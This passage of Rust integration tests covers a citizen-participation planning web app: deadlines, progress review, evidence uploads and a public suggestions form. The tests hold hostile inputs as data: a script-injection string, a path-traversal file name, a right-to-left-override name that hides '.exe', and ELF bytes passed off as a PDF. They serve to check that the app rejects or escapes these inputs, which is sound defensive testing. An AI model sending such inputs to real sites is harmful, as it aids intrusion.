            "/admin/parametros",
            c,
            &[
                ("parametro", "peticion.general"),
                ("valor", "10"),
                ("desde", "2026-01-01"),
                ("motivo", "Prueba de cambio normativo"),
            ],
        )
        .await;
    assert_eq!(saved.status, StatusCode::SEE_OTHER, "{}", saved.body);
    let page = app.get("/admin/parametros?fecha=2026-02-02", c).await;
    let row = parameter_row(&page.body, "peticion.general");
    assert!(
        row.contains("10 días hábiles") && row.contains("lunes 16 feb 2026"),
        "{row}"
    );
    // Before the date it applies from, the old value still rules.
    let before = app.get("/admin/parametros?fecha=2025-12-01", c).await;
    assert!(parameter_row(&before.body, "peticion.general").contains("15 días hábiles"));
    assert!(page.body.contains("Prueba de cambio normativo"));
    let audit = app.get("/admin/auditoria", c).await;
    assert!(audit.body.contains("parameter.set") && audit.body.contains("Usuario admin"));

    // A holiday added by the admin moves the deadline by one business day.
    add_test_holiday(&app, c).await;
    let page = app.get("/admin/parametros?fecha=2026-02-02", c).await;
    assert!(parameter_row(&page.body, "peticion.general").contains("martes 17 feb 2026"));
    let holidays = app.get("/admin/festivos?anio=2026", c).await;
    assert!(holidays.body.contains("Festivo de prueba"));
    assert!(holidays
        .body
        .contains("Nuestra Señora del Rosario de Chiquinquirá"));
    let twice = app
        .post(
            "/admin/festivos",
            c,
            &[
                ("accion", "agregar"),
                ("fecha", "2026-02-16"),
                ("nombre", "Otro"),
                ("motivo", "x"),
            ],
        )
        .await;
    assert_eq!(twice.status, StatusCode::UNPROCESSABLE_ENTITY);
    assert!(twice.body.contains("ya es festivo"));

    // The coverage check lists the seed's gaps with their sources, and the Ley 1750 citation.
    let coverage = app.get("/admin/planes/1/cobertura", c).await;
    for expected in [
        "NORMA:Ley 1750 de 2015",
        "Ley 1757 de 2015",
        "Fuente:",
        "COMPONENTE:control_social",
        "FASE:diagnostico",
        "MURC_ELEMENTO:dialogo",
    ] {
        assert!(
            coverage.body.contains(expected),
            "coverage lacks {expected}"
        );
    }

    // Tagging an activity in its form covers the gap: the finding disappears.
    let mut form = activity_form("Publicar contenidos en redes sociales", "ARCOM");
    form.extend([
        ("fases", "implementacion"),
        ("fases", "evaluacion_seguimiento"),
        ("grupos_valor", "ciudadania"),
        ("incidencia", "control_social"),
        ("canal", "virtual"),
        ("medio", "Facebook Live"),
        ("furag", "PCI201"),
        ("cubre", "control_social"),
    ]);
    let edited = app
        .post("/admin/planes/1/actividades/13/editar", c, &form)
        .await;
    assert_eq!(edited.status, StatusCode::SEE_OTHER, "{}", edited.body);
    let coverage = app.get("/admin/planes/1/cobertura", c).await;
    assert!(!coverage.body.contains("COMPONENTE:control_social"));
    assert!(!coverage.body.contains("FASE:implementacion"));
    let again = app.get("/admin/planes/1/actividades/13/editar", c).await;
    assert!(again.body.contains("value=\"control_social\" checked"));
    assert!(again.body.contains("value=\"Facebook Live\""));
    let json = app.get("/admin/planes/1/exportar/json", c).await;
    assert!(
        json.body.contains("\"medium\":\"Facebook Live\"") || json.body.contains("Facebook Live")
    );
    // A group outside the catalogue is refused, and the typed text stays.
    let mut wrong = activity_form("Texto que no se pierde", "ARCOM");
    wrong.push(("grupos_valor", "reservistas"));
    let refused = app
        .post("/admin/planes/1/actividades/13/editar", c, &wrong)
        .await;
    assert_eq!(refused.status, StatusCode::UNPROCESSABLE_ENTITY);
    assert!(refused
        .body
        .contains("«reservistas» no está en el catálogo"));
    assert!(refused.body.contains("Texto que no se pierde"));

    // Consolidation waits for the findings: no button, and a direct request is refused.
    let plan_page = app.get("/admin/planes/1", c).await;
    assert!(plan_page.body.contains(" pendientes"));
    assert!(!plan_page.body.contains("value=\"consolidar\""));
    let early = app
        .post("/admin/planes/1/estado", c, &[("accion", "consolidar")])
        .await;
    assert_eq!(
        early.location.as_deref(),
        Some("/admin/planes/1/cobertura?mensaje=pendientes")
    );
    assert_eq!(
        app.store.plan_state(PlanId(1)).await.unwrap().status,
        participa_domain::PlanStatus::Draft
    );

    // Accepting needs a justification; with one, each finding is accepted.
    let blank = app
        .post(
            "/admin/planes/1/cobertura/aceptar",
            c,
            &[
                ("codigo", "NORMA:Ley 1750 de 2015"),
                ("justificacion", "  "),
            ],
        )
        .await;
    assert_eq!(blank.status, StatusCode::UNPROCESSABLE_ENTITY);
    assert!(blank.body.contains("Escriba por qué se acepta"));
    for code in app.store.coverage(PlanId(1)).await.unwrap().pending() {
        let r = app
            .post(
                "/admin/planes/1/cobertura/aceptar",
                c,
                &[
                    ("codigo", code.as_str()),
                    (
                        "justificacion",
                        "Se atiende en el plan de acción <b>2026</b>",
                    ),
                ],
            )
            .await;
        assert_eq!(r.status, StatusCode::SEE_OTHER, "{code}: {}", r.body);
    }
    let coverage = app.get("/admin/planes/1/cobertura", c).await;
    assert!(coverage.body.contains("Aceptado por Usuario admin"));
    assert!(
        coverage.body.contains("Se atiende en el plan de acción")
            && !coverage.body.contains("<b>2026"),
        "justification not escaped"
    );
    let plan_page = app.get("/admin/planes/1", c).await;
    assert!(plan_page.body.contains("value=\"consolidar\""));
    // The button answers with what consolidating does; nothing changes until confirmed.
    let asked = app
        .post("/admin/planes/1/estado", c, &[("accion", "consolidar")])
        .await;
    assert_eq!(asked.status, StatusCode::OK);
    assert!(asked.body.contains("queda bloqueado"), "{}", asked.body);
    assert!(asked.body.contains("name=\"confirmar\" value=\"si\""));
    assert_eq!(
        app.store.plan_state(PlanId(1)).await.unwrap().status,
        participa_domain::PlanStatus::Draft
    );
    let done = app
        .post(
            "/admin/planes/1/estado",
            c,
            &[("accion", "consolidar"), ("confirmar", "si")],
        )
        .await;
    assert_eq!(done.location.as_deref(), Some("/admin/planes/1"));
    let landed = app.get("/admin/planes/1", c).await;
    assert!(
        landed.body.contains(
            "role=\"status\">Versión 1 consolidada: quedó bloqueada y lista para revisión."
        ),
        "{}",
        landed.body
    );
    assert_eq!(
        app.store.plan_state(PlanId(1)).await.unwrap().status,
        participa_domain::PlanStatus::Consolidated
    );
}

const PDF: &[u8] = b"%PDF-1.4\n1 0 obj\n<< >>\nendobj\ntrailer\n<< >>\n%%EOF\n";

/// The dashboard row of one activity.
fn followup_row(body: &str, number: u32) -> String {
    let start = body
        .find(&format!("id=\"seguimiento-{number}\""))
        .unwrap_or_else(|| panic!("no row for activity {number}"));
    let rest = &body[start..];
    rest[..rest.find("</tr>").unwrap()].to_string()
}

async fn followup_review_cycle(db: TestDatabase) {
    let app = TestApp::new(db).await;
    let admin = app.login("admin").await;
    let reporter = app.login("reporter").await;
    let auditor = app.login("auditor").await;
    let base = "/admin/planes/1/seguimiento/actividades/13";

    // The planning office declares an indicator for activity 13 (ARCOM).
    let ind = app
        .post(
            &format!("{base}/indicadores"),
            Some(&admin),
            &[
                ("nombre", "Interacciones"),
                ("unidad", "interacciones"),
                ("meta", "1000"),
                ("agregacion", "suma"),
            ],
        )
        .await;
    assert_eq!(ind.status, StatusCode::SEE_OTHER, "{}", ind.body);

    // ARCOM reports with an evidence file; it cannot report for ARVIV's activity 12.
    let fields = [
        ("periodo", "1"),
        ("avance", "40"),
        ("descripcion", "TikTok live con afiliados"),
        // A figure sent twice (issue 13, item 18): the last one counts, no 500.
        ("indicador_1", "999"),
        ("indicador_1", "250"),
    ];
    let sent = app
        .post_files(
            &format!("{base}/avance"),
            Some(&reporter),
            &fields,
            &[("evidencias", "transmision.pdf", PDF)],
        )
        .await;
    assert_eq!(sent.status, StatusCode::SEE_OTHER, "{}", sent.body);
    let stored = app.store.followup(PlanId(1)).await.unwrap();
    assert_eq!(
        stored.reports[0].figures,
        [(1, 250.0)],
        "the last figure sent counts"
    );
    let other = app
        .post_files(
            "/admin/planes/1/seguimiento/actividades/12/avance",
            Some(&reporter),
            &fields,
            &[],
        )
        .await;
    assert_eq!(other.status, StatusCode::FORBIDDEN);
    // The admin cannot review; internal control returns it with an observation.
    let review = |decision: &'static str, verified: &'static str, obs: &'static str| {
        vec![
            ("periodo", "1"),
            ("decision", decision),
            ("avance_verificado", verified),
            ("suficiencia", "parcial"),
            ("observaciones", obs),
        ]
    };
    let refused = app
        .post(
            &format!("{base}/revision"),
            Some(&admin),
            &review("aceptar", "40", ""),
        )
        .await;
    assert_eq!(refused.status, StatusCode::FORBIDDEN);
    let no_obs = app
        .post(
            &format!("{base}/revision"),
            Some(&auditor),
            &review("devolver", "", ""),
        )
        .await;
    assert_eq!(no_obs.status, StatusCode::UNPROCESSABLE_ENTITY);
    assert!(no_obs.body.contains("escriba la observación"));
    let back = app
        .post(
            &format!("{base}/revision"),
            Some(&auditor),
            &review("devolver", "", "Falta el enlace de la transmisión"),
        )
        .await;
    assert_eq!(back.status, StatusCode::SEE_OTHER, "{}", back.body);
    let page = app.get(base, Some(&reporter)).await;
    assert!(page.body.contains("Devuelto a la dependencia"));
    assert!(page.body.contains("Falta el enlace de la transmisión"));
    // The evidence is listed with its SHA-256 and downloads as it was sent.
    let sha = "/admin/evidencias/1";
    assert!(page.body.contains(sha));
    let file = app.get(sha, Some(&auditor)).await;
    assert_eq!(file.status, StatusCode::OK);
    assert_eq!(file.body.as_bytes(), PDF);
    assert_eq!(app.get(sha, None).await.status, StatusCode::SEE_OTHER);
    assert_eq!(app.get(sha, Some(&reporter)).await.status, StatusCode::OK);
    let hash = password_auth::generate_hash(PASSWORD);
    testing::create_user(
        &app.store,
        "vivienda",
        "Área de Vivienda",
        Role::Reporter,
        &["ARVIV"],
        &hash,
    )
    .await;
    let other_office = app.login("vivienda").await;
    assert_eq!(
        app.get(sha, Some(&other_office)).await.status,
        StatusCode::FORBIDDEN
    );

    // Resubmitted, then accepted with a verified percent kept apart from the reported one.
    let again = app
        .post_files(
            &format!("{base}/avance"),
            Some(&reporter),
            &[
                ("periodo", "1"),
                ("avance", "45"),
                (
                    "descripcion",
                    "TikTok live; enlace: https://tiktok.com/@cajahonor",
                ),
                ("indicador_1", "300"),
            ],
            &[],
        )
        .await;
    assert_eq!(again.status, StatusCode::SEE_OTHER, "{}", again.body);
    let ok = app
        .post(
            &format!("{base}/revision"),
            Some(&auditor),
            &review("aceptar", "30", "Verificado"),
        )
        .await;
    assert_eq!(ok.status, StatusCode::SEE_OTHER, "{}", ok.body);
    let page = app.get(base, Some(&admin)).await;
    assert!(page.body.contains("Aceptado por control interno"));
    assert!(page.body.contains("45 %") && page.body.contains("30 %"));
    assert!(page.body.contains("300 interacciones"));

    // The dashboard shows the status the calendar implies for a fixed day.
    let early = app
        .get("/admin/planes/1/seguimiento?fecha=2025-03-14", Some(&admin))
        .await;
    assert_eq!(early.status, StatusCode::OK);
    assert!(
        followup_row(&early.body, 13).contains("Al día"),
        "{}",
        followup_row(&early.body, 13)
    );
    let late = app
        .get("/admin/planes/1/seguimiento?fecha=2025-09-30", Some(&admin))
        .await;
    assert!(
        followup_row(&late.body, 13).contains("Atrasada"),
        "{}",
        followup_row(&late.body, 13)
    );
    // Activity 3 ended on 30 April 2025 with nothing reported.
    assert!(followup_row(&late.body, 3).contains("Vencida"));
    // "Atrasada" and "Vencida" share the red of the traffic light but not their look:
    // each status carries its own class (icon and shade), as "Al día" does.
    assert!(followup_row(&late.body, 13).contains("estado-atrasada"));
    assert!(followup_row(&late.body, 3).contains("estado-vencida"));
    assert!(followup_row(&early.body, 13).contains("estado-al_dia"));
    // Before it starts, activity 4 (1 April) is not started.
    assert!(followup_row(&early.body, 4).contains("No iniciada"));
    let office = app
        .get(
            "/admin/planes/1/seguimiento?fecha=2025-03-14&dependencia=ARVIV",
            Some(&admin),
        )
        .await;
    assert!(office.body.contains("id=\"seguimiento-12\""));
    assert!(!office.body.contains("id=\"seguimiento-13\""));

    // The planning office cancels an activity with a justification, and sets weights.
    let no_why = app
        .post(
            "/admin/planes/1/seguimiento/actividades/12/estado",
            Some(&admin),
            &[("estado_manual", "cancelada"), ("justificacion_estado", "")],
        )
        .await;
    assert_eq!(no_why.status, StatusCode::UNPROCESSABLE_ENTITY);
    let cancel = app
        .post(
            "/admin/planes/1/seguimiento/actividades/12/estado",
            Some(&admin),
            &[
                ("estado_manual", "cancelada"),
                ("justificacion_estado", "Sin presupuesto"),
            ],
        )
        .await;
    assert_eq!(cancel.status, StatusCode::SEE_OTHER);
    let now = app
        .get("/admin/planes/1/seguimiento?fecha=2025-09-30", Some(&admin))
        .await;
    assert!(followup_row(&now.body, 12).contains("Cancelada"));
    let mut weights: Vec<(String, String)> = (1..=15)
        .map(|n| (format!("peso_{n}"), "5".to_string()))
        .collect();
    let form: Vec<(&str, &str)> = weights
        .iter()
        .map(|(k, v)| (k.as_str(), v.as_str()))
        .collect();
    let short = app
        .post("/admin/planes/1/seguimiento/pesos", Some(&admin), &form)
        .await;
    assert_eq!(short.status, StatusCode::UNPROCESSABLE_ENTITY);
    assert!(short.body.contains("suman 75"), "{}", short.body);
    weights[12].1 = "30".into();
    let form: Vec<(&str, &str)> = weights
        .iter()
        .map(|(k, v)| (k.as_str(), v.as_str()))
        .collect();
    let saved = app
        .post("/admin/planes/1/seguimiento/pesos", Some(&admin), &form)
        .await;
    assert_eq!(saved.status, StatusCode::SEE_OTHER, "{}", saved.body);
    assert_eq!(
        app.store
            .followup(PlanId(1))
            .await
            .unwrap()
            .weights
            .get(&13),
        Some(&30.0)
    );

    // Internal control closes the period: editing it is refused from then on.
    assert_eq!(
        app.post(
            "/admin/planes/1/seguimiento/periodos/1/cerrar",
            Some(&admin),
            &[]
        )
        .await
        .status,
        StatusCode::FORBIDDEN
    );
    // Without the confirmation's checkbox nothing is closed.
    let unconfirmed = app
        .post(
            "/admin/planes/1/seguimiento/periodos/1/cerrar",
            Some(&auditor),
            &[],
        )
        .await;
    assert_eq!(unconfirmed.status, StatusCode::UNPROCESSABLE_ENTITY);
    assert!(unconfirmed.body.contains("marque la casilla"));
    assert!(app
        .store
        .followup(PlanId(1))
        .await
        .unwrap()
        .closures
        .is_empty());
    let closed = app
        .post(
            "/admin/planes/1/seguimiento/periodos/1/cerrar",
            Some(&auditor),
            &[("confirmar", "si")],
        )
        .await;
    assert_eq!(closed.status, StatusCode::SEE_OTHER);
    let after = app
        .post_files(
            "/admin/planes/1/seguimiento/actividades/14/avance",
            Some(&reporter),
            &[("periodo", "1"), ("avance", "10"), ("descripcion", "Tarde")],
            &[],
        )
        .await;
    assert_eq!(after.status, StatusCode::UNPROCESSABLE_ENTITY);
    assert!(after.body.contains("necesita su motivo"), "{}", after.body);
    // Internal control cannot review a closed period either.
    let late_review = app
        .post(
            &format!("{base}/revision"),
            Some(&auditor),
            &review("aceptar", "50", ""),
        )
        .await;
    assert_eq!(late_review.status, StatusCode::UNPROCESSABLE_ENTITY);
    // A later correction is a new, documented entry; what was reviewed stays.
    let corrected = app
        .post_files(
            &format!("{base}/avance"),
            Some(&reporter),
            &[
                ("periodo", "1"),
                ("avance", "50"),
                ("descripcion", "Se sumó la segunda transmisión"),
                (
                    "motivo_correccion",
                    "Faltó reportar la transmisión del 28 de abril",
                ),
            ],
            &[],
        )
        .await;
    assert_eq!(
        corrected.status,
        StatusCode::SEE_OTHER,
        "{}",
        corrected.body
    );
    let page = app.get(base, Some(&auditor)).await;
    assert!(page.body.contains("Corrección documentada"));
    assert!(page
        .body
        .contains("Faltó reportar la transmisión del 28 de abril"));
    let f = app.store.followup(PlanId(1)).await.unwrap();
    assert_eq!(f.submissions(13, 1).len(), 3);
    assert_eq!(f.verified(13), Some(30.0));
    // The follow-up report of the period, as PDF and XLSX, carries what was entered.
    let pdf = app
        .get("/admin/planes/1/informes/seguimiento/1.pdf", Some(&auditor))
        .await;
    assert_eq!(pdf.status, StatusCode::OK);
    let words = pdf_text(&pdf.bytes);
    for expected in [
        "Informe de seguimiento",
        "Se sumó la segunda transmisión",
        "corrección documentada",
        "50 %",
        "30 %",
        "Verificado",
        "transmision.pdf",
    ] {
        assert!(
            words.contains(expected),
            "missing «{expected}» in:\n{words}"
        );
    }
    let xlsx = app
        .get(
            "/admin/planes/1/informes/seguimiento/1.xlsx",
            Some(&auditor),
        )
        .await;
    assert_eq!(xlsx.status, StatusCode::OK);
    assert!(xlsx.bytes.starts_with(b"PK"));
    assert_eq!(
        app.get("/admin/planes/1/informes/seguimiento/1.xlsx", None)
            .await
            .status,
        StatusCode::SEE_OTHER
    );
    let plan_pdf = app
        .get("/admin/planes/1/informes/plan.pdf", Some(&reporter))
        .await;
    assert!(pdf_text(&plan_pdf.bytes).contains("Plan de Participación Ciudadana 2025"));
    // Once the plan is published, the reporter's first page shows what ARCOM owes.
    app.to_status(&[
        Transition::Consolidate,
        Transition::Review,
        Transition::Approve,
        Transition::Publish,
    ])
    .await;
    let home = app.get("/admin/planes", Some(&reporter)).await;
    assert!(
        home.body
            .contains("Seguimiento pendiente de su dependencia"),
        "{}",
        home.body
    );
    assert!(home.body.contains("15. Divulgar los trámites"));
    assert!(
        !home.body.contains("12. Desarrollar ferias"),
        "ARVIV's activity shown to ARCOM"
    );
    let audit = app.get("/admin/auditoria", Some(&admin)).await;
    for action in ["progress.submit", "progress.review", "period.close"] {
        assert!(audit.body.contains(action), "{action}");
    }
}

fn files_under(dir: &std::path::Path) -> usize {
    std::fs::read_dir(dir)
        .unwrap()
        .map(|e| {
            let p = e.unwrap().path();
            if p.is_dir() {
                files_under(&p)
            } else {
                1
            }
        })
        .sum()
}

async fn rejected_uploads_leave_nothing_behind(db: TestDatabase) {
    let app = TestApp::with_evidence(db, Some(1024)).await;
    let reporter = app.login("reporter").await;
    let path = "/admin/planes/1/seguimiento/actividades/13/avance";
    let fields = [
        ("periodo", "1"),
        ("avance", "20"),
        ("descripcion", "Texto que no se pierde"),
    ];
    let elf: &[u8] = b"\x7fELF\x02\x01\x01\x00\x00\x00\x00\x00\x00\x00\x00\x00\x02\x00\x3e\x00";
    let big = [PDF, &vec![b' '; 2048]].concat();
    for (file, bytes, expected) in [
        ("grande.pdf", big.as_slice(), "el límite es 1024 bytes"),
        ("programa.pdf", elf, "no es de un tipo admitido"),
        ("../../x.pdf", PDF, "no es válido: use un nombre simple"),
    ] {
        let r = app
            .post_files(
                path,
                Some(&reporter),
                &fields,
                &[("evidencias", file, bytes)],
            )
            .await;
        assert_eq!(r.status, StatusCode::UNPROCESSABLE_ENTITY, "{file}");
        assert!(r.body.contains(expected), "{file}: {}", r.body);
        assert!(r.body.contains("Texto que no se pierde"), "typed text lost");
        assert!(r.body.contains("id=\"evidencias-error\""));
    }
    // A body past the request limit (five files of the largest size) is cut off.
    let huge = vec![b'x'; 2 * 1024 * 1024];
    let r = app
        .post_files(
            path,
            Some(&reporter),
            &fields,
            &[("evidencias", "enorme.pdf", &huge)],
        )
        .await;
    assert_eq!(r.status, StatusCode::UNPROCESSABLE_ENTITY);
    assert!(r.body.contains("No se pudo recibir"), "{}", r.body);
    // Within the request limit, a file past its own limit is refused while it arrives
    // (issue 13, item 15: the rest of it is not read).
    let over = vec![b'x'; 4000];
    let r = app
        .post_files(
            path,
            Some(&reporter),
            &fields,
            &[("evidencias", "grande2.pdf", &over)],
        )
        .await;
    assert_eq!(r.status, StatusCode::UNPROCESSABLE_ENTITY);
    assert!(
        r.body
            .contains("«grande2.pdf» supera el tamaño permitido: el límite es 1024 bytes"),
        "{}",
        r.body
    );
    assert!(r.body.contains("Texto que no se pierde"), "typed text lost");
    // Issue 13, item 15: at most five files per report, counted as they arrive.
    let names: Vec<String> = (1..=6).map(|i| format!("acta{i}.pdf")).collect();
    let contents: Vec<Vec<u8>> = (1..=6)
        .map(|i| [PDF, format!("\n% copia {i}\n").as_bytes()].concat())
        .collect();
    let six: Vec<(&str, &str, &[u8])> = names
        .iter()
        .zip(&contents)
        .map(|(n, c)| ("evidencias", n.as_str(), c.as_slice()))
        .collect();
    let r = app.post_files(path, Some(&reporter), &fields, &six).await;
    assert_eq!(r.status, StatusCode::UNPROCESSABLE_ENTITY);
    assert!(
        r.body.contains("Se admiten hasta 5 archivos por envío"),
        "{}",
        r.body
    );
    // A name that hides its real ending behind a right-to-left mark is refused.
    let r = app
        .post_files(
            path,
            Some(&reporter),
            &fields,
            &[("evidencias", "acta\u{202E}fdp.exe.pdf", PDF)],
        )
        .await;
    assert_eq!(r.status, StatusCode::UNPROCESSABLE_ENTITY);
    assert!(r.body.contains("caracteres invisibles"), "{}", r.body);
    assert!(!r.body.contains('\u{202E}'), "the mark is not shown back");
    let dir = app.evidence_dir.as_ref().unwrap().path();
    assert_eq!(files_under(dir), 0, "a refused upload left a file");
    assert!(app
        .store
        .followup(PlanId(1))
        .await
        .unwrap()
        .reports
        .is_empty());
    // Five good files go through, and only they are on disk.
    let r = app
        .post_files(path, Some(&reporter), &fields, &six[..5])
        .await;
    assert_eq!(r.status, StatusCode::SEE_OTHER, "{}", r.body);
    assert_eq!(files_under(dir), 5);
}

/// A public form POST from a given client address.
async fn post_from(app: &TestApp, ip: &str, path: &str, form: &[(&str, &str)]) -> Reply {
    let body: String = form_urlencoded::Serializer::new(String::new())
        .extend_pairs(form)
        .finish();
    let mut r = Request::post(path)
        .header(header::HOST, HOST)
        .header(header::ORIGIN, ORIGIN)
        .header(header::CONTENT_TYPE, "application/x-www-form-urlencoded")
        .body(Body::from(body))
        .unwrap();
    let addr: std::net::SocketAddr = format!("{ip}:40000").parse().unwrap();
    r.extensions_mut().insert(axum::extract::ConnectInfo(addr));
    app.send(r).await
}

async fn suggestions_campaign(db: TestDatabase) {
    let app = TestApp::new(db).await;
    let form = app.get("/sugerencias", None).await;
    assert_eq!(form.status, StatusCode::OK);
    assert!(form.body.contains("Ley 1581 de 2012"));

    // Errors next to their fields; what was typed comes back, escaped.
    let hostile = "<script>alert('x')</script> Más ferias";
    let bad = post_from(
        &app,
        "10.0.0.1",
        "/sugerencias",
        &[
            ("categoria", ""),
            ("texto", hostile),
            ("correo", "ana@correo.co"),
        ],
    )
    .await;
    assert_eq!(bad.status, StatusCode::UNPROCESSABLE_ENTITY);
    assert!(bad.body.contains("id=\"categoria-error\""));
    assert!(
        bad.body.contains("id=\"autorizacion-error\""),
        "contact data without consent"
    );
    assert!(
        !bad.body.contains("<script>alert"),
        "script came back unescaped"
    );
    assert!(bad.body.contains("Más ferias"));
    assert!(bad.body.contains("value=\"ana@correo.co\""));

    // With consent the contact data are kept; the citizen gets a code.
    let sent = post_from(
        &app,
        "10.0.0.1",
        "/sugerencias",
        &[
            ("categoria", "vivienda"),
            ("texto", hostile),
            ("nombre", "Ana"),
            ("correo", "ana@correo.co"),
            ("autorizacion", "si"),
        ],
    )
    .await;
    assert_eq!(sent.status, StatusCode::SEE_OTHER, "{}", sent.body);
    let location = sent.location.unwrap();
    assert!(location.starts_with("/sugerencias/SG-"), "{location}");
    let code = location
        .trim_start_matches("/sugerencias/")
        .split('?')
        .next()
        .unwrap()
        .to_string();
    let page = app.get(&location, None).await;
    assert!(page.body.contains(&code) && page.body.contains("Recibida"));
    assert!(!page.body.contains("<script>alert"));
    assert!(
        !page.body.contains("ana@correo.co"),
        "the tracking page shows no personal data"
    );
    // Typed in lower case with spaces, the code still finds it.
    let typed = code.to_lowercase().replace('-', " ");
    let found = app
        .get(
            &format!("/sugerencias/consulta?codigo={}", typed.replace(' ', "+")),
            None,
        )
        .await;
    assert_eq!(
        found.location.as_deref(),
        Some(format!("/sugerencias/{code}").as_str())
    );
    let any_code = app
        .get(
            &format!("/consulta-codigo?codigo={}", typed.replace(' ', "+")),
            None,
        )
        .await;
    assert_eq!(
        any_code.location.as_deref(),
        Some(format!("/sugerencias/{code}").as_str())
    );
    let form = app.get("/consulta-codigo", None).await;
    assert_eq!(form.status, StatusCode::OK);
    assert!(form.body.contains("<label for=\"codigo\">Código</label>"));
    let mistyped = app
        .get("/consulta-codigo?codigo=%3Cb%3EXY-12%3C%2Fb%3E", None)
        .await;
    assert_eq!(mistyped.status, StatusCode::UNPROCESSABLE_ENTITY);
    assert!(
        mistyped
            .body
            .contains("«&#60;b&#62;XY-12&#60;/b&#62;» no es un código")
            || mistyped
                .body
                .contains("«&lt;b&gt;XY-12&lt;/b&gt;» no es un código"),
        "the error repeats what was typed, escaped: {}",
        mistyped.body
    );
    assert!(
        mistyped
            .body
            .contains("value=\"&#60;b&#62;XY-12&#60;/b&#62;\"")
            || mistyped.body.contains("value=\"&lt;b&gt;XY-12&lt;/b&gt;\"")
    );
    let wrong = app.get("/sugerencias/consulta?codigo=nada", None).await;
    assert_eq!(wrong.status, StatusCode::UNPROCESSABLE_ENTITY);
    assert!(wrong.body.contains("no es un código de seguimiento"));

    // The honeypot: stored nothing, answered like a person.
    let robot = post_from(
        &app,
        "10.0.0.3",
        "/sugerencias",
        &[
            ("categoria", "otro"),
            ("texto", "Compre relojes baratos aquí"),
            ("sitio_web", "http://spam"),
        ],
    )
    .await;
    assert_eq!(robot.location.as_deref(), Some("/sugerencias/gracias"));

    // Staff: the admin sees the contact; internal control sees that it is reserved.
    let admin = app.login("admin").await;
    let auditor = app.login("auditor").await;
    let list = app.get("/admin/sugerencias", Some(&admin)).await;
    assert!(list.body.contains(&code) && list.body.contains("ana@correo.co"));
    assert!(
        !list.body.contains("Compre relojes"),
        "the robot's text was stored"
    );
    let reserved = app.get("/admin/sugerencias", Some(&auditor)).await;
    assert!(!reserved.body.contains("ana@correo.co") && reserved.body.contains("Reservados"));
    let id = app.store.suggestions(&Default::default()).await.unwrap()[0].id;
    let path = format!("/admin/sugerencias/{id}");
    assert_eq!(
        app.post(
            &path,
            Some(&auditor),
            &[("estado", "respondida"), ("respuesta", "x")]
        )
        .await
        .status,
        StatusCode::FORBIDDEN
    );
    let no_answer = app
        .post(
            &path,
            Some(&admin),
            &[("estado", "respondida"), ("respuesta", "")],
        )
        .await;
    assert_eq!(no_answer.status, StatusCode::UNPROCESSABLE_ENTITY);
    let answered = app
        .post(
            &path,
            Some(&admin),
            &[
                ("estado", "respondida"),
                ("respuesta", "En marzo habrá feria de vivienda en Cali."),
            ],
        )
        .await;
    assert_eq!(answered.status, StatusCode::SEE_OTHER);
    let page = app.get(&format!("/sugerencias/{code}"), None).await;
    assert!(
        page.body.contains("Respondida")
            && page
                .body
                .contains("En marzo habrá feria de vivienda en Cali.")
    );

    // The citizen erases the contact data with the code.
    let erased = post_from(
        &app,
        "10.0.0.1",
        &format!("/sugerencias/{code}/borrar-datos"),
        &[],
    )
    .await;
    assert_eq!(erased.status, StatusCode::SEE_OTHER);
    let s = app.store.suggestions(&Default::default()).await.unwrap();
    assert!(s[0].contact.is_none() && s[0].erased_at.is_some());

    // A flood from one address is refused with a clear message; another address is
    // still served, and nothing stored is lost.
    let mut refused = None;
    for i in 0..12 {
        let text = format!("Sugerencia repetida número {i}");
        let r = post_from(
            &app,
            "10.0.0.9",
            "/sugerencias",
            &[("categoria", "otro"), ("texto", &text)],
        )
        .await;
        if r.status == StatusCode::TOO_MANY_REQUESTS {
            refused = Some(r);
            break;
        }
    }
    let refused = refused.expect("no flood limit");
    assert!(refused.body.contains("demasiados envíos"));
    let other = post_from(
        &app,
        "10.0.0.10",
        "/sugerencias",
        &[
            ("categoria", "otro"),
            ("texto", "Otra persona, otra sugerencia"),
        ],
    )
    .await;
    assert_eq!(other.status, StatusCode::SEE_OTHER);
    assert_eq!(
        app.store
            .suggestions(&Default::default())
            .await
            .unwrap()
            .len(),
        1 + 10 + 1
    );
    // An over-size body is refused with a message, not a broken page.
    let huge = "a".repeat(2 * 1024 * 1024);
    let big = post_from(
        &app,
        "10.0.0.11",
        "/sugerencias",
        &[("categoria", "otro"), ("texto", &huge)],
    )
    .await;
    assert_eq!(big.status, StatusCode::PAYLOAD_TOO_LARGE);
    assert!(big.body.contains("tamaño máximo"));
}

async fn accountability_hearing(db: TestDatabase) {
    let app = TestApp::new(db).await;
    let admin = app.login("admin").await;
    let auditor = app.login("auditor").await;
    let fields = |title: &'static str| {
        vec![
            ("titulo", title),
            ("fecha", "2025-07-30"),
            ("hora", "10:00"),
            ("lugar", ""),
            ("transmision", "https://www.youtube.com/@cajahonor"),
            (
                "informe",
                "https://www.cajahonor.gov.co/informe-rdc-2024.pdf",
            ),
            ("informe_fecha", "2025-06-20"),
            ("convocatoria", "Sitio web, redes sociales y correo"),
            ("actividad", "1:4"),
        ]
    };
    let bad = app
        .post("/admin/audiencias", Some(&admin), &fields(""))
        .await;
    assert_eq!(bad.status, StatusCode::UNPROCESSABLE_ENTITY);
    assert!(bad.body.contains("id=\"titulo-error\""));
    assert_eq!(
        app.post(
            "/admin/audiencias",
            Some(&auditor),
            &fields("Audiencia 2025")
        )
        .await
        .status,
        StatusCode::FORBIDDEN
    );
    let created = app
        .post(
            "/admin/audiencias",
            Some(&admin),
            &fields("Audiencia pública de rendición de cuentas 2025"),
        )
        .await;
    assert_eq!(created.status, StatusCode::SEE_OTHER, "{}", created.body);
    let id = created
        .location
        .unwrap()
        .rsplit('/')
        .next()
        .unwrap()
        .to_string();
    let public = format!("/audiencias/{id}");
    let page = app.get(&public, None).await;
    assert_eq!(page.status, StatusCode::OK);
    // 15 business days after Wednesday 30 July 2025, with 7 and 18 August holidays.
    assert!(page.body.contains("22 ago 2025"), "answer deadline");

    // Registration needs consent; a question does not need a name.
    let no_consent = post_from(
        &app,
        "10.1.0.1",
        &format!("{public}/inscripcion"),
        &[("nombre", "Ana Pérez"), ("grupo", "afiliados")],
    )
    .await;
    assert_eq!(no_consent.status, StatusCode::UNPROCESSABLE_ENTITY);
    assert!(
        no_consent.body.contains("id=\"autorizacion-error\"")
            && no_consent.body.contains("value=\"Ana Pérez\"")
    );
    let registered = post_from(
        &app,
        "10.1.0.1",
        &format!("{public}/inscripcion"),
        &[
            ("nombre", "Ana Pérez"),
            ("correo", "ana@correo.co"),
            ("grupo", "afiliados"),
            ("autorizacion", "si"),
        ],
    )
    .await;
    assert_eq!(registered.status, StatusCode::SEE_OTHER);
